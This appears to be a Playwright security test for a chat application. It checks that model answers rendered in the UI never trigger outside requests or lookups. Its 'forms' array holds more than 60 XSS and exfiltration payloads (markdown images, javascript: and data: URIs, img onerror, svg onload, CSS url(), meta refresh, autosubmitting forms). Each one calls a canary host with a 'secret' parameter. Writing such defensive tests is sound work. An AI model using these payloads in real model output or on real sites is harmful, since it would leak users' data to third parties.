import { createServer } from "node:http";
import { call } from "./api";
import { close, listen, startModel } from "./model";
import { expect, test } from "./test";

/** What must not leave: it stands in every address that an answer tries to have loaded. */
const canary = "canary-6b1f0e";

/** Ways to have a page ask for an address, or for a name, without a press. */
const forms: ((url: string, host: string) => string)[] = [
  (url) => `![a](${url})`,
  (url) => `![](<${url}>)`,
  (url) => `![a](${url} "title")`,
  (url) => `![a][ref]\n\n[ref]: ${url}`,
  (url) => `![ref]\n\n[ref]: ${url}`,
  (url) => `[![a](${url})](${url})`,
  (url) => `- ![a](${url})`,
  (url) => `> ![a](${url})`,
  (url) => `# ![a](${url})`,
  (url) => `| a |\n|---|\n| ![a](${url}) |`,
  (url) => `~~![a](${url})~~ **![a](${url})**`,
  (url) => `Note[^1].\n\n[^1]: ![a](${url})`,
  (url) => `- [ ] ![a](${url})`,
  (url) => `&#x21;[a](${url}) &excl;[a](${url})`,
  (url) => `![a](${url.replace("http:", "")})`,
  (url) => `![a](${url.replace("http://", "http:\\\\\\\\")})`,
  (url) => `![a](${url.replace("http", "HTTP")})`,
  (_, host) => `![a](//${canary}.${host}/x.png)`,
  (_, host) => `![a](http://${canary}.${host})`,
  (url) => `[a](${url})`,
  (url) => `[a][ref]\n\n[ref]: ${url}`,
  (url) => `<${url}>`,
  (url) => url,
  (_, host) => `www.${canary}.${host}`,
  (_, host) => `mail@${canary}.${host}`,
  (url) => `[a](javascript:fetch('${url}'))`,
  (url) => `[a](JaVaScRiPt:fetch('${url}'))`,
  (url) => `[a](data:text/html,<script>fetch('${url}')</script>)`,
  (url) => `![a](data:image/svg+xml,<svg><image href='${url}'/></svg>)`,
  (url) => `[a](vbscript:fetch('${url}'))`,
  (url) => `<img src="${url}">`,
  (url) => `<img src=x onerror="fetch('${url}')">`,
  (url) => `<img srcset="${url} 2x">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<svg><image href="${url}"/></svg>`,
  (url) => `<svg onload="fetch('${url}')"></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<video src="${url}" poster="${url}" autoplay></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<link rel="stylesheet" href="${url}">`,
  (url) => `<link rel="prefetch" href="${url}">`,
  (url) => `<link rel="preconnect" href="${url}">`,
  (_, host) => `<link rel="dns-prefetch" href="//${canary}.${host}">`,
  (url) => `<style>@import url("${url}");</style>`,
  (url) => `<style>body { background: url("${url}") }</style>`,
  (url) => `<div style="background: url('${url}')">a</div>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<script>fetch("${url}")</script>`,
  (url) => `<script>new Image().src = "${url}"</script>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<form action="${url}"><input autofocus onfocus="this.form.submit()"></form>`,
  (url) => `<input type="image" src="${url}">`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><tr><td>a</td></tr></table>`,
  (url) => `<details open ontoggle="fetch('${url}')">a</details>`,
  (url) => `<marquee onstart="fetch('${url}')">a</marquee>`,
  (url) => `<a href="${url}" ping="${url}">a</a>`,
  (url) => `<math><mtext><img src="${url}"></mtext></math>`,
  (url) => `<!--><img src="${url}">-->`,
  (url) => `\`\`\`html\n<img src="${url}">\n\`\`\``,
  (url) => `$\\includegraphics{${url}}$`,
];
/** Forms in one answer. */
const together = 6;

test("nothing that an answer says has the page load or look up anything elsewhere (test 44)", async ({
  page,
}) => {
  test.setTimeout(180_000);
  expect(forms.length).toBeGreaterThanOrEqual(60);
  const elsewhere: string[] = [];
  const internet = createServer((request, response) => {
    elsewhere.push(request.url ?? "");
    response.end();
  });
  const port = await listen(internet);
  const url = `http://127.0.0.1:${port}/${canary}.png?secret=${canary}`;
  const answers: string[] = [];
  for (let first = 0; first < forms.length; first += together) {
    const some = forms.slice(first, first + together).map((form) => form(url, "leak.invalid"));
    answers.push([...some, `End of part ${answers.length + 1}.`].join("\n\n"));
  }
  const model = await startModel((asked) => [
    JSON.stringify({ messages: [answers[asked % answers.length]] }),
  ]);
  const name = `Leaky ${Date.now().toString(36)}`;
  await call(page, "POST", "/api/agents", { name, model: model.name });

  const origin = new URL((await page.request.get("/health")).url()).origin;
  const left: string[] = [];
  page.context().on("request", (request) => {
    if (!request.url().startsWith(`${origin}/`) && !request.url().startsWith("data:"))
      left.push(request.url());
  });
  await page.goto("/chat");
  await page.getByLabel("Answered by").selectOption(name);
  const conversation = page.getByRole("region", { name: "Conversation" });
  for (let part = 1; part <= answers.length; part++) {
    await page.getByRole("textbox").last().fill(`Part ${part}`);
    await page.keyboard.press("Enter");
    await expect(conversation.getByText(`End of part ${part}.`)).toBeVisible();
  }
  await page.reload();
  await expect(conversation.getByText(`End of part ${answers.length}.`)).toBeVisible();
  await conversation.getByRole("link", { name: "How this came about" }).last().click();
  await expect(page.getByRole("heading", { level: 1, name: /turn \d+$/ })).toBeVisible();
  await page.waitForLoadState("networkidle");
  expect(left).toEqual([]);
  expect(elsewhere).toEqual([]);
  expect(model.asked()).toBe(answers.length);
  await model.stop();
  await close(internet);
});
